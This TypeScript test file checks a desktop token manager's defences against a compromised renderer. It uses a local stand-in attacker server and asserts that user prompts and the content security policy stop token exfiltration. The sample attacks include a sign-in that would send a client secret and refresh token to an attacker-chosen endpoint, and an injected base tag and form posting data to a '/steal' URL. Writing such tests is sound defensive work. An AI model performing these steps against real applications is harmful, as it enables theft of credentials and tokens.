import assert from 'node:assert/strict';
import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, afterEach, before, describe, test } from 'node:test';
import type { Page } from 'playwright-core';
import type { IpcResult, SignInProgress } from '../../main/common/ipc-contract.js';
import { MAX_CONCURRENT_FLOWS } from '../../main/node/desktop/sign-in-flow-service.js';
import { engineParts } from '../../main/node/engine/token-engine.js';
import { DesktopFixture } from './desktop-fixture.js';

// A compromised renderer: script running in our own page, in Chromium, calling what the preload
// exposes (window.tokentray) through the checks the IPC gate runs. What only the user may allow
// goes to the main process's native dialog, which the page can neither see nor answer; here
// that dialog is the FakeUser (Electron cannot run), and the decision is the real code's.

type Api = Record<string, (...args: unknown[]) => Promise<IpcResult<unknown>>>;

/** Whoever the page would like to send a sign-in's code and secrets to. */
async function attacker(): Promise<{ url: string; seen: IncomingMessage[]; close(): void }> {
  const seen: IncomingMessage[] = [];
  const server = createServer((req, res) => {
    seen.push(req);
    res.writeHead(400, { 'content-type': 'application/json' }).end('{"error":"invalid_grant"}');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    seen,
    close: () => {
      server.closeAllConnections();
      server.close();
    },
  };
}

describe('what a compromised renderer cannot do quietly', () => {
  let desktop: DesktopFixture;
  let evil: Awaited<ReturnType<typeof attacker>>;

  before(async () => {
    desktop = await DesktopFixture.start();
    await desktop.addPasted('work', { label: 'Work' });
    evil = await attacker();
  });
  afterEach(() => desktop.closeWindows());
  after(async () => {
    evil.close();
    await desktop.close();
  });

  // The compromised page: one settings window per test, making every call of that test.
  let page: Page | undefined;
  afterEach(() => (page = undefined));
  const call = async (method: string, ...args: unknown[]): Promise<IpcResult<unknown>> => {
    page ??= (await desktop.open('settings')).page;
    return page.evaluate(
      ([m, a]) => (window.tokentray as unknown as Api)[m as string]?.(...(a as unknown[])),
      [method, args] as const,
    ) as Promise<IpcResult<unknown>>;
  };

  test('a custom sign-in names its hosts in a native dialog first; "no" sends nothing anywhere', async () => {
    desktop.user.answer = false;
    const asked = desktop.user.questions.length;
    const result = await call('startSignIn', {
      name: 'stolen',
      provider: 'custom',
      method: 'paste',
      clientId: desktop.provider.clients.rotating.clientId,
      clientSecret: desktop.provider.clients.rotating.clientSecret,
      tokenEndpoint: `${evil.url}/token`,
      refreshToken: await desktop.provider.mintRefreshToken(
        desktop.provider.clients.rotating.clientId,
      ),
    });
    assert.equal(result.ok, false);
    if (!result.ok) assert.equal(result.error.code, 'cancelled');
    const question = desktop.user.questions[asked];
    assert.ok(question !== undefined, 'the user was asked');
    assert.match(question.detail, new RegExp(`go to: ${new URL(evil.url).host}`));
    assert.equal(evil.seen.length, 0, 'not one request reached the endpoint the page chose');
    assert.equal(engineParts(desktop.engine).settings.account('stolen'), undefined);
  });

  test('an OpenID browser sign-in names the sign-in host and the token host', async () => {
    desktop.user.answer = false;
    const asked = desktop.user.questions.length;
    const opened = desktop.userBrowser.opened.length;
    const result = await call('startSignIn', {
      name: 'oidc-asked',
      provider: 'oidc',
      method: 'browser',
      issuer: desktop.provider.issuer,
      clientId: desktop.provider.clients.publicClient.clientId,
    });
    assert.equal(result.ok, false);
    const host = new URL(desktop.provider.issuer).host;
    assert.match(desktop.user.questions[asked]?.detail ?? '', new RegExp(`sign in at: ${host}`));
    assert.match(desktop.user.questions[asked]?.detail ?? '', new RegExp(`go to: ${host}`));
    assert.equal(desktop.userBrowser.opened.length, opened, 'no browser page was opened');
  });

  test(`at most ${MAX_CONCURRENT_FLOWS} sign-ins run at once`, async () => {
    desktop.user.answer = true;
    const start = (i: number) =>
      call('startSignIn', {
        name: `flow-${i}`,
        provider: 'oidc',
        method: 'browser',
        issuer: desktop.provider.issuer,
        clientId: desktop.provider.clients.publicClient.clientId,
      });
    const started: IpcResult<unknown>[] = [];
    for (let i = 0; i < MAX_CONCURRENT_FLOWS; i++) started.push(await start(i));
    assert.ok(
      started.every((r) => r.ok),
      JSON.stringify(started),
    );
    const over = await start(99);
    assert.equal(over.ok, false);
    if (!over.ok) assert.match(over.error.message, /already under way/);
    // Ending one frees its place.
    const first = started[0] as { ok: true; value: SignInProgress };
    await call('cancelSignIn', first.value.flowId);
    await call('waitForSignIn', first.value.flowId);
    const again = await start(100);
    assert.ok(again.ok, JSON.stringify(again));
    for (const r of [...started.slice(1), again])
      if (r.ok) await call('cancelSignIn', (r.value as SignInProgress).flowId);
  });

  test('turning updates off, a clipboard that never clears, and removal need the user’s word', async () => {
    desktop.user.answer = false;
    for (const patch of [{ autoUpdate: false }, { clipboardClearSeconds: 0 }]) {
      const result = await call('setOptions', patch);
      assert.equal(result.ok, false, JSON.stringify(patch));
      if (!result.ok) assert.equal(result.error.code, 'cancelled');
    }
    const options = engineParts(desktop.engine).settings.options();
    assert.equal(options.autoUpdate, true, 'updates stay on');
    assert.equal(options.clipboardClearSeconds, 60, 'the clear time stays');
    const removed = await call('removeAccount', 'work', true);
    assert.equal(removed.ok, false);
    assert.ok(engineParts(desktop.engine).settings.account('work'), 'the account stays');

    // Harmless changes are not asked about; the same ones pass once the user says yes.
    const asked = desktop.user.questions.length;
    assert.ok((await call('setOptions', { clipboardClearSeconds: 30 })).ok);
    assert.equal(desktop.user.questions.length, asked, 'not asked');
    desktop.user.answer = true;
    assert.ok((await call('setOptions', { autoUpdate: false })).ok);
    assert.equal(engineParts(desktop.engine).settings.options().autoUpdate, false);
    assert.ok((await call('setOptions', { autoUpdate: true, clipboardClearSeconds: 60 })).ok);
  });

  test("the page's CSP ignores an injected <base> and blocks form submission anywhere", async () => {
    const before = evil.seen.length;
    const { page } = await desktop.open('settings');
    const outcome = await page.evaluate(async (target) => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) =>
        violations.push(e.effectiveDirective),
      );
      const base = document.createElement('base');
      base.href = `${target}/phish/`;
      document.head.prepend(base);
      const form = document.createElement('form');
      form.method = 'post';
      form.action = `${target}/steal`;
      const field = document.createElement('input');
      field.name = 'loot';
      field.value = 'anything';
      form.append(field);
      document.body.append(form);
      form.submit();
      const link = document.createElement('a');
      link.href = 'relative';
      // Both refusals arrive as events: poll for them, up to a deadline (the asserts then say).
      const deadline = Date.now() + 10_000;
      while (!(violations.includes('form-action') && violations.includes('base-uri')))
        if (Date.now() > deadline) break;
        else await new Promise((resolve) => setTimeout(resolve, 10));
      return { violations, baseURI: document.baseURI, link: link.href };
    }, evil.url);
    assert.ok(!outcome.baseURI.startsWith(evil.url), `base ignored: ${outcome.baseURI}`);
    assert.ok(!outcome.link.startsWith(evil.url), 'relative links still resolve to our pages');
    assert.ok(outcome.violations.includes('form-action'), JSON.stringify(outcome));
    assert.ok(outcome.violations.includes('base-uri'), JSON.stringify(outcome));
    assert.equal(evil.seen.length, before, 'the form reached no one');
  });
});
